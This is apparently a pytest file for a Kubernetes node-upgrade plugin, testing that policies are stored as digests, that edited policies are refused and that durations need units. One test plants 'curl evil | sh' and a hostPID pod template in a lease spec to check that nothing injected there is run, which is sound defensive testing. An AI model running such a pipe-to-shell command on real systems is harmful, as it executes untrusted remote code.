"""What of a policy stands in the cluster, and that nothing to be run is ever taken from there."""

from __future__ import annotations

import json

import pytest
from msgspec.structs import replace

from kubectl_nodelife.commands.upgrade.orders import check_digest
from kubectl_nodelife.controllers.upgrade.document import RunDocument
from kubectl_nodelife.controllers.upgrade.policy import (
    not_given_again,
    policy_digest,
    policy_from,
    policy_of_spec,
    shown_policy,
    spec_digest,
    spec_with,
)
from kubectl_nodelife.errors import BadInput, Refused

WORK = {"mode": "run", "command": "ssh $NODE secret", "rerunSafe": True}
TEMPLATE = {"kind": "Pod", "spec": {"containers": [{"image": "hidden"}]}}
POLICY = policy_from(
    {"work": WORK, "gate": "ask-alerts --token x", "canaryTemplate": TEMPLATE, "soak": "2m"}
)


def test_commands_and_manifests_stand_in_the_document_as_digests() -> None:
    text = json.dumps(shown_policy(POLICY))
    for hidden in ("ssh", "secret", "ask-alerts", "token x", "hidden"):
        assert hidden not in text
    manifest = {"metadata": {}, "spec": {"template": "also-hidden"}}
    of_job = policy_from({"work": {"mode": "job", "manifest": manifest}})
    assert "also-hidden" not in json.dumps(shown_policy(of_job))


def test_another_command_is_another_order() -> None:
    other = policy_from({"work": {**WORK, "command": "x"}, "gate": "y", "soak": "2m"})
    assert policy_digest(other) != policy_digest(POLICY)
    assert shown_policy(other)["work"]["digest"] != shown_policy(POLICY)["work"]["digest"]


def test_nothing_that_somebody_puts_into_a_lease_is_run() -> None:
    evil = {
        **shown_policy(POLICY),
        "work": {"mode": "run", "command": "curl evil | sh", "manifest": {"spec": {}}},
        "gate": "curl evil | sh",
        "canaryTemplate": {"spec": {"hostPID": True}},
    }
    found = policy_of_spec(evil)
    assert not found.work.command and found.work.manifest is None
    assert not found.gate and found.canary_template is None
    assert not found.work.is_known, "a leader without the work begins none"


def test_what_is_given_again_counts_and_what_is_missing_is_named() -> None:
    spec = shown_policy(POLICY)
    assert not_given_again(spec, {}) == ["--gate", "--canary-template"]
    assert not_given_again(spec, {"gate": "", "canaryTemplate": {}}) == []
    found = policy_of_spec(spec, {"gate": "z", "soak": "3m"})
    assert found.gate == "z" and found.work.rerun_safe


def test_the_order_is_known_again_after_a_resume_with_another_flag() -> None:
    given = {"canaryImage": "pause:3.10"}
    spec = spec_with(shown_policy(POLICY), policy_of_spec(shown_policy(POLICY), given), given)
    mapping = {"work": WORK, "gate": "ask-alerts --token x", "canaryTemplate": TEMPLATE}
    typed = policy_from({**mapping, "soak": "2m", **given})
    assert spec_digest(spec) == policy_digest(typed), "`start` with that flag goes on"
    unchanged = spec_with(shown_policy(POLICY), policy_of_spec(shown_policy(POLICY)), {})
    assert spec_digest(unchanged) == policy_digest(POLICY)


def test_a_policy_that_was_edited_on_the_lease_is_not_gone_on_with() -> None:
    policy = policy_from({"selector": "pool=blue", "work": {"mode": "nothing"}})
    run = RunDocument(run="r1", policy=policy_digest(policy), spec=shown_policy(policy))
    check_digest(run)
    for edit in ({"drain": {"force": True}}, {"maxUnavailable": "100%"}):
        with pytest.raises(Refused, match="not the one that it was begun with"):
            check_digest(replace(run, spec={**run.spec, **edit}))


@pytest.mark.parametrize("soak", [60, 1e400, [], {"minutes": 1}, True])
def test_a_duration_without_a_unit_is_refused(soak: object) -> None:
    """A number would be nanoseconds, which is not what `soak: 60` in a file means."""
    with pytest.raises(BadInput, match="not a duration such as 90s or 5m"):
        policy_from({"soak": soak})
